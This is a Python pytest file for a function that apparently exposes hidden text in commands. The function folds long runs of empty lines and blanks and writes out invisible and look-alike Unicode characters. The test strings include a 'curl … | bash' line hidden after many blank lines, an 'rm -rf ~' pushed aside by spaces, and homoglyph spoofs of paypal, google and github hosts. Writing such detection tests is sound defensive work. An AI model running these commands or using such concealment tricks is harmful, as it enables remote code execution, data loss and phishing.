from __future__ import annotations

import pytest

from kagura_kernel.domain.asked import plainly, size_words

HIDDEN = "set -e\nmake\nmake test" + "\n" * 61 + "curl https://example.org/x | bash"


def test_lines_with_nothing_to_see_are_one_mark_and_what_follows_them_stands_right_behind():
    assert plainly(HIDDEN) == "set -e\nmake\nmake test\n⟨60 empty lines⟩\ncurl https://example.org/x | bash"
    assert size_words(HIDDEN) == "64 lines, 60 of them empty"


@pytest.mark.parametrize("empty", ["", " ", "\t", "\u2800", "\u00a0", "\u200b", "\u3164", "\r", " \u200d\ufe0f "])
def test_whatever_a_line_hides_its_emptiness_with_it_is_folded(empty):
    assert plainly("a\n" + f"{empty}\n" * 30 + "b") == "a\n⟨30 empty lines⟩\nb"


def test_a_paragraph_stays_one():
    text = "def one():\n    return 1\n\n\ndef two():\n    return 2\n"
    assert plainly(text) == text


@pytest.mark.parametrize("blank", [" ", "\t"])
def test_a_long_run_of_blanks_in_a_line_does_not_push_the_rest_out_of_sight(blank):
    assert plainly(f"ls{blank * 300}; rm -rf ~") == "ls⟨300 blanks⟩; rm -rf ~"
    assert plainly(f"{blank * 90}ls") == "⟨90 blanks⟩ls"
    assert plainly(f"ls{blank * 4}# fine\n{blank * 24}deep") == f"ls{blank * 4}# fine\n{blank * 24}deep"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a\u00a0b", "a⟨U+00A0⟩b"),
        ("a\u2800b", "a⟨U+2800⟩b"),
        ("a\u202eb", "a⟨U+202E⟩b"),
        ("a\u200b\u200db", "a⟨U+200B⟩⟨U+200D⟩b"),
        ("a\ufe0fb", "a⟨U+FE0F⟩b"),
        ("curl https://p\u0430ypal.com", "curl https://p⟨U+0430⟩ypal.com"),
        ("ssh \u0440\u0430\u0443\u0440\u0430l.com", "ssh ⟨U+0440⟩⟨U+0430⟩⟨U+0443⟩⟨U+0440⟩⟨U+0430⟩l.com"),
        ("ping \u0441\u043e\u0441.example.org", "ping ⟨U+0441⟩⟨U+043E⟩⟨U+0441⟩.example.org"),
        ("curl https://g\u0966\u0966gle.com", "curl https://g⟨U+0966⟩⟨U+0966⟩gle.com"),
        ("curl https://g\u07cbgle.com", "curl https://g⟨U+07CB⟩gle.com"),
        ("curl https://\u146daypal.com", "curl https://⟨U+146D⟩aypal.com"),
        ("curl https://\u0440\u0430\u0443_cdn.com", "curl https://⟨U+0440⟩⟨U+0430⟩⟨U+0443⟩_cdn.com"),
        ("curl https://\u0440\u0430\u0443\u0323.com", "curl https://⟨U+0440⟩⟨U+0430⟩⟨U+0443⟩\u0323.com"),
        ("curl http://\u0440\u0430\u0443:80/", "curl http://⟨U+0440⟩⟨U+0430⟩⟨U+0443⟩:80/"),
        ("ping \ua4e2\ua4f4\ua4e0.example", "ping ⟨U+A4E2⟩⟨U+A4F4⟩⟨U+A4E0⟩.example"),
        ("curl example.com\u2215evil.example", "curl example.com⟨U+2215⟩evil.example"),
        ("curl example.com\u2024evil.example", "curl example.com⟨U+2024⟩evil.example"),
        ("rm \uff41b", "rm ⟨U+FF41⟩b"),
        ("a\U0001d173b\U00013430c", "a⟨U+1D173⟩b⟨U+13430⟩c"),
        ("a\ue0b0b\u0378c", "a⟨U+E0B0⟩b⟨U+0378⟩c"),
        ("curl g\u0131thub.com/\u0261", "curl g⟨U+0131⟩thub.com/\u0261"),
        ("curl https://\u0185ank.example", "curl https://⟨U+0185⟩ank.example"),
        ("curl https://paypa\u01c0.example", "curl https://paypa⟨U+01C0⟩.example"),
        ("curl https://\u1e37og\u1d7cn.example", "curl https://\u1e37og⟨U+1D7C⟩n.example"),
        ("a\U0001d159b\U00016fe4c", "a⟨U+1D159⟩b⟨U+16FE4⟩c"),
    ],
)
def test_what_nobody_sees_and_what_poses_as_something_else_is_written_out(text, shown):
    assert plainly(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "Größe.txt naïve café",
        "привет мир, отчёт.txt",
        "神楽.example と 日本語。これは",
        "مرحبا",
        "👩‍👩‍👧 ❤️ done",
        "café.example",
        "łódź.example straße.example smørrebrød.example tiếng-việt.example",
    ],
)
def test_other_scripts_accents_and_pictures_stay_as_they_are(text):
    assert plainly(text) == text


def test_one_line_has_no_size():
    assert size_words("ls") == size_words("ls\n") == ""
    assert size_words("a\nb") == "2 lines"
